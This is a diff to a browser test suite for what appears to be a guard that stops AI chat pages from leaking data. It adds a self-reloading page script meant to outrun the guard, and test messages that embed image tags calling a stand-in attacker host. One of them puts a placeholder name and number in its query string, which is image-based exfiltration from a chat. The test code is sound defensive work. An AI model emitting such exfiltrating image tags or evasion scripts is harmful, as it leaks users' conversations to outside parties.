@@ -37,12 +37,21 @@ const hostile = `<script>
   }, 20);
 </script>`;
 
+/** Loads itself anew three times, at ever later moments: a guard that was brought for one document meets the next one. */
+const restless = `<script>
+  const turn = Number(sessionStorage.getItem('turn') ?? 0);
+  sessionStorage.setItem('turn', turn + 1);
+  if (turn < 3) setTimeout(() => location.reload(), 40 * turn);
+  else sessionStorage.removeItem('turn');
+</script>`;
+
 function web(url: URL): Answer | null {
   if (url.pathname.endsWith('.png') || url.pathname.endsWith('.gif'))
     return url.pathname.endsWith('.gif') ? pixel : null;
   if (url.pathname === '/sw.js') return worker;
   if (url.pathname === '/nothing') return { status: 204 };
   if (url.pathname === '/hostile') return chatPage(hostile);
+  if (url.pathname === '/restless') return chatPage(restless);
   if (url.hostname.endsWith('.example'))
     return { type: 'text/html', body: '<!doctype html><title>Elsewhere</title>' };
   return chatPage();
@@ -112,6 +121,22 @@ describe.each(names)('a chat in trouble in %s', (name) => {
     await other.close();
   });
 
+  it('knows the conversation of a page that was loaded anew while it loaded', async () => {
+    await fresh(`${chat}/restless`);
+    const isSettled = () =>
+      tab
+        .evaluate(() => sessionStorage.getItem('turn') === null && document.readyState === 'complete', null)
+        .catch(() => false);
+    await waitUntil(isSettled, (settled) => settled);
+    await waitUntil(
+      () => lab.stored('session', `conversation:${tab.id}`),
+      (text) => text !== null,
+    );
+    await tab.say(`<img src="${attacker}/known.png?for=Jordan+Example+482913">`);
+    const [attempt] = await tab.attemptsAre((all) => all.length === 1);
+    expect(attempt?.verdict.gravity).toBe('loud');
+  });
+
   it('guards a page that comes back from the past', async () => {
     await fresh();
     await tab.goto('https://honest.example/');
@@ -123,9 +148,7 @@ describe.each(names)('a chat in trouble in %s', (name) => {
     expect(lab.left()).toEqual([]);
   });
 
-  // In Chromium a request that is handed on looks like one of the app's own, which guard lets pass: see SECURITY.md.
-  const workerModes = name === 'firefox' ? (['strict', 'guard'] as const) : (['strict'] as const);
-  it.each(workerModes)('holds what a worker of the site hands on, in %s', async (mode) => {
+  it.each(['strict', 'guard'] as const)('holds what a worker of the site hands on, in %s', async (mode) => {
     await lab.change({ chatModes: { 'le-chat': mode } });
     await fresh();
     await tab.evaluate(async () => {
@@ -134,7 +157,8 @@ describe.each(names)('a chat in trouble in %s', (name) => {
     }, null);
     await fresh();
     expect(await tab.evaluate(() => navigator.serviceWorker.controller !== null, null)).toBe(true);
-    await tab.say(`<img src="${attacker}/by-worker.png"><img id="own" src="/own.png">`);
+    const picture = `by-worker-in-${mode}.png`;
+    await tab.say(`Look: <img src="${attacker}/${picture}"><img id="own" src="/own.png">`);
     await waitUntil(
       () =>
         tab.evaluate(() => {
@@ -152,12 +176,36 @@ describe.each(names)('a chat in trouble in %s', (name) => {
         }),
       `${attacker}/asked-by-worker`,
     );
+    // What it asks for itself is held in strict, and where it cannot be told from what it hands on.
+    const isHeld = mode === 'strict' || name === 'chromium';
+    expect(said).toBe(isHeld ? 'held' : 'passed');
+    expect(lab.left()).toEqual(isHeld ? [] : ['attacker.example/asked-by-worker']);
+    const all = await tab.attemptsAre((now) => now.length === (isHeld ? 2 : 1));
+    const held = all.find(({ url }) => url.endsWith(picture));
+    expect(held).toBeDefined();
+    if (mode === 'guard') expect(held).toMatchObject({ answer: 'Look:', verdict: { kind: 'image' } });
+
+    // Scripts of the app ask whom they like in guard, at the latest from their second request on.
+    const asks = () =>
+      tab.evaluate(
+        (url) =>
+          fetch(url, { mode: 'no-cors' }).then(
+            () => true,
+            () => false,
+          ),
+        'https://telemetry.example/app',
+      );
+    if (mode === 'guard') await waitUntil(asks, (passed) => passed);
+    else expect(await asks()).toBe(false);
+    lab.left();
+    await tab.say(`<img src="${attacker}/more.png"><img src="${attacker}/${picture}">`);
+    await tab.attemptsAre((now) => now.some(({ url }) => url.endsWith('/more.png')));
+    expect(lab.left()).toEqual([]);
+    expect(await tab.decide(held?.id, 'shown-once')).toBe(true);
+    await arrives(`attacker.example/${picture}`);
     await tab.evaluate(async () => {
       for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
     }, null);
-    // What it asks for itself is held in strict alone.
-    expect(said).toBe(mode === 'strict' ? 'held' : 'passed');
-    expect(lab.left()).toEqual(mode === 'strict' ? [] : ['attacker.example/asked-by-worker']);
   });
 
   it('stands against a page that undoes hooks and sends messages of its own', async () => {
